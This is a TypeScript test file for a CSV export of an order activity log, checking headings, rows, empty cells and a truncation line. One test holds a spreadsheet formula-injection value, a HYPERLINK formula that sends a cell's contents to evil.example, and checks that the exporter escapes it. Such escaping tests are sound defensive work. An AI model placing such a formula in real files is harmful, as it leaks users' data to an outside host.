import { createInstance } from "i18next";
import { describe, expect, it } from "vitest";
import english from "../i18n/locales/en.json" with { type: "json" };
import { createSentences } from "../i18n/use-sentences.ts";
import type { ActivityListItem } from "../use-cases/activity-log.ts";
import { activityCsv } from "./activity-csv.ts";
import { readCsv } from "../domain/shared/csv.ts";

const i18n = createInstance();
await i18n.init({ lng: "en", resources: { en: { translation: english } }, interpolation: { escapeValue: false } });
const words = { t: i18n.t, sentences: createSentences(i18n.t) };

const entry: ActivityListItem = {
  id: "1",
  at: "2026-11-22T15:30:07.123Z",
  code: "push.refused",
  params: { reason: "rejected" },
  level: "error",
  vendorName: "Clay & Kiln",
  vendorId: "v",
  platform: "woocommerce",
  durationMs: 1340,
  reference: "7KQ2M4XD",
  orderId: "o",
  orderName: "#1001",
  answer: 'line 1: "Bowl, large" is not purchasable',
};

async function write(entries: readonly Partial<ActivityListItem>[], limit = 100) {
  async function* all() {
    for (const change of entries) yield { ...entry, ...change };
  }
  let file = "";
  for await (const piece of activityCsv(all(), limit, words)) file += piece;
  const read = readCsv(file);
  if (!("rows" in read)) throw new Error("not CSV");
  return { file, rows: read.rows.map(({ cells }) => cells) };
}

describe("the log as CSV", () => {
  it("has a heading and a line for each entry, in words", async () => {
    const { file, rows } = await write([{}]);
    expect(file.startsWith("\ufeff")).toBe(true);
    expect(rows).toEqual([
      [
        "Time (UTC)",
        "Level",
        "Kind",
        "What happened",
        "Store's answer",
        "Order",
        "Vendor",
        "Platform",
        "Duration (ms)",
        "Support reference",
        "Code",
      ],
      [
        "2026-11-22 15:30:07",
        "Error",
        "Pushes",
        "The vendor's store refused the order: Refused by the store",
        'line 1: "Bowl, large" is not purchasable',
        "#1001",
        "Clay & Kiln",
        "WooCommerce",
        "1340",
        "7KQ2M4XD",
        "push.refused",
      ],
    ]);
  });

  it("makes text of what a spreadsheet would run", async () => {
    const { file } = await write([
      { answer: '=HYPERLINK("https://evil.example/?"&A1)', vendorName: "@SUM(1)", orderName: "+1001" },
    ]);
    expect(file).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1)"`);
    expect(file).toContain(",'+1001,'@SUM(1),");
  });

  it("leaves empty what there is not", async () => {
    const none = { orderName: null, vendorName: null, platform: null, durationMs: null, reference: null, answer: null };
    expect((await write([none])).rows[1]?.slice(4, 10)).toEqual(["", "", "", "", "", ""]);
  });

  it("says in its last line that there is more", async () => {
    const { rows } = await write([{}, {}, {}], 2);
    expect(rows).toHaveLength(4);
    expect(rows.at(-1)).toEqual(["Only the newest 2 entries are in this file. Narrow the filters for the others."]);
    expect((await write([{}, {}], 2)).rows).toHaveLength(3);
  });
});
